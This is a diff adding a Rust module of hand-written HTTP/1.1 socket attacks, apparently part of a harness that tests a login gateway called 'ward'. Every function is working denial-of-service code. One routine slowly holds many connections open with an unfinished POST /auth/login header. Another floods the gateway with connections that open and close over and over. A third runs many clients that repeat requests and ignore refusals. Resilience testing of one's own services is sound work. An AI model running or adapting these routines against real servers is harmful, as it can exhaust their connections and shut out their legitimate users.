@@ -1,0 +1,118 @@
+//! Attacks on plain sockets: HTTP/1.1 written by hand, because no client library does this.
+
+use std::io::{Error, Result};
+use std::net::{Ipv4Addr, SocketAddr};
+use std::time::Duration;
+
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+use tokio::net::{TcpSocket, TcpStream};
+use tokio::task::JoinSet;
+use tokio::time::{sleep, timeout};
+
+use super::Scene;
+
+/// How long a connection may take: a full backlog drops the first packet, and its repetition comes
+/// after one second.
+const CONNECT_MAX: Duration = Duration::from_secs(5);
+
+/// Connections opened at a time: below the usual backlog of a listener, so that the attack is what
+/// it holds and not how fast it came.
+const AT_A_TIME: usize = 64;
+
+/// A connection from an address of ours.
+pub(super) async fn connect(to: &str, from: Ipv4Addr) -> Result<TcpStream> {
+    let to: SocketAddr = to.parse().map_err(Error::other)?;
+    let socket = TcpSocket::new_v4()?;
+    socket.bind((from, 0).into())?;
+    timeout(CONNECT_MAX, socket.connect(to)).await?
+}
+
+/// Connections that have sent `greeting`; those that could not be made are left out.
+pub(super) async fn many(
+    to: &str,
+    from: Ipv4Addr,
+    count: usize,
+    greeting: &[u8],
+) -> Vec<TcpStream> {
+    let mut streams = Vec::with_capacity(count);
+    let mut tries = JoinSet::new();
+    for _ in 0..count {
+        let (to, greeting) = (to.to_owned(), greeting.to_vec());
+        tries.spawn(async move {
+            let mut stream = connect(&to, from).await?;
+            stream.write_all(&greeting).await?;
+            Result::Ok(stream)
+        });
+        if tries.len() >= AT_A_TIME
+            && let Some(Ok(Ok(stream))) = tries.join_next().await
+        {
+            streams.push(stream);
+        }
+    }
+    while let Some(made) = tries.join_next().await {
+        if let Ok(Ok(stream)) = made {
+            streams.push(stream);
+        }
+    }
+    streams
+}
+
+/// The head of a login with further header lines, each ended by CR LF.
+pub(super) fn login_head(more: &str) -> Vec<u8> {
+    let head = "POST /auth/login HTTP/1.1\r\nHost: ward\r\nContent-Type: application/json\r\n";
+    format!("{head}{more}\r\n").into_bytes()
+}
+
+/// Holds connections that have sent `greeting`, opens those anew that were closed, and sends `drop`
+/// on each every five seconds.
+pub(super) async fn hold(scene: Scene, to: String, count: usize, greeting: Vec<u8>, drop: &[u8]) {
+    loop {
+        let mut held = many(&to, scene.source, count, &greeting).await;
+        sleep(Duration::from_secs(5)).await;
+        for stream in &mut held {
+            // One that was closed by the server is made anew with the others.
+            let _ = stream.write_all(drop).await;
+        }
+        if drop.is_empty() {
+            // Held to the end, however many of them the server has let go.
+            sleep(Duration::from_secs(60)).await;
+        }
+    }
+}
+
+/// Sends whole requests on connections that are closed at once, again and again.
+pub(super) async fn leave(scene: Scene, at_a_time: usize, request: Vec<u8>) {
+    loop {
+        let left = many(&scene.gateway, scene.source, at_a_time, &request).await;
+        sleep(Duration::from_millis(20)).await;
+        drop(left);
+    }
+}
+
+/// `clients` that send a whole request, read what comes until the connection ends, and start again,
+/// `times` each.
+pub(super) async fn repeat(scene: Scene, clients: usize, times: usize, request: Vec<u8>) {
+    let mut running = JoinSet::new();
+    for _ in 0..clients {
+        let (scene, request) = (scene.clone(), request.clone());
+        running.spawn(async move {
+            for _ in 0..times {
+                // A refusal is as good an answer as any: what others see is what counts.
+                let _ = once(&scene, &request).await;
+            }
+        });
+    }
+    running.join_all().await;
+}
+
+async fn once(scene: &Scene, request: &[u8]) -> Result<()> {
+    let (mut read, mut write) = connect(&scene.gateway, scene.source).await?.into_split();
+    let sending = async {
+        write.write_all(request).await?;
+        Result::Ok(write)
+    };
+    let mut answer = Vec::new();
+    // Read beside writing: who is refused early has not sent everything.
+    let (sent, _) = tokio::join!(sending, timeout(CONNECT_MAX, read.read_to_end(&mut answer)));
+    sent.map(drop)
+}
